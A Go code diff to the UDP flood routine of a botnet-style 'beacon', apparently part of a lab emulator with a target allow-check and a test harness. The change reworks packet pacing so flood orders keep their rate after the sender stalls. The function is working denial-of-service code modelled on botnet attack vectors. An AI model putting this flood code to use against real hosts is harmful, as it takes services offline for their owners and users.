@@ -93,9 +93,14 @@ func (b *Beacon) attack(ctx context.Context, o botwire.Order, n int) (int, error
 	return flood(ctx, pc, o, n)
 }
 
-// flood sends n UDP packets to o's target, one every 1/AttackRate
-// seconds, until n are sent or ctx ends. It checks the target itself: the
-// last guard before a packet leaves.
+// flood sends n UDP packets to o's target at AttackRate a second, until n
+// are sent or ctx ends. It checks the target itself: the last guard before
+// a packet leaves. The pace is kept by a schedule, not by a ticker: a
+// ticker drops the ticks its reader misses, and a guest under TCG on a
+// loaded host woke the sender about every 20 ms, which made a 4 s order of
+// 800 packets take 17 s, under tb-parse's 50 packets a second (a
+// fresh-clone make test, 2026-11-30). Packets that fell due while the
+// sender slept go at once, as the C beacon's do.
 func flood(ctx context.Context, pc net.PacketConn, o botwire.Order, n int) (int, error) {
 	if !AttackAllowed(o.Target) {
 		return 0, fmt.Errorf("refusing target %s", o.Target)
@@ -108,24 +113,41 @@ func flood(ctx context.Context, pc net.PacketConn, o botwire.Order, n int) (int,
 	}
 	// Random payloads need no secret randomness: a PCG seeded per attack.
 	rnd := rand.New(rand.NewPCG(rand.Uint64(), rand.Uint64()))
-	tick := time.NewTicker(time.Second / AttackRate)
-	defer tick.Stop()
-	for sent := 0; sent < n; sent++ {
-		if sent > 0 {
-			select {
-			case <-ctx.Done():
-				return sent, ctx.Err()
-			case <-tick.C:
-			}
+	const gap = time.Second / AttackRate
+	next := time.Now()
+	wait := time.NewTimer(0)
+	defer wait.Stop()
+	for sent := 0; sent < n; {
+		now := time.Now()
+		// A stall longer than maxCatchUp is not made up, so the pace
+		// never bursts far past AttackRate.
+		if next.Before(now.Add(-maxCatchUp)) {
+			next = now
 		}
-		if o.Vector != "udpplain" {
-			for i := range payload {
-				payload[i] = byte(rnd.Uint32())
+		for ; sent < n && !next.After(now); sent++ {
+			if o.Vector != "udpplain" {
+				for i := range payload {
+					payload[i] = byte(rnd.Uint32())
+				}
 			}
+			if _, err := pc.WriteTo(payload, dst); err != nil {
+				return sent, err
+			}
+			next = next.Add(gap)
 		}
-		if _, err := pc.WriteTo(payload, dst); err != nil {
-			return sent, err
+		if sent == n {
+			break
+		}
+		wait.Reset(next.Sub(now))
+		select {
+		case <-ctx.Done():
+			return sent, ctx.Err()
+		case <-wait.C:
 		}
 	}
 	return n, nil
 }
+
+// maxCatchUp is the longest stall of the sender whose packets are still
+// sent once it wakes.
+const maxCatchUp = 100 * time.Millisecond
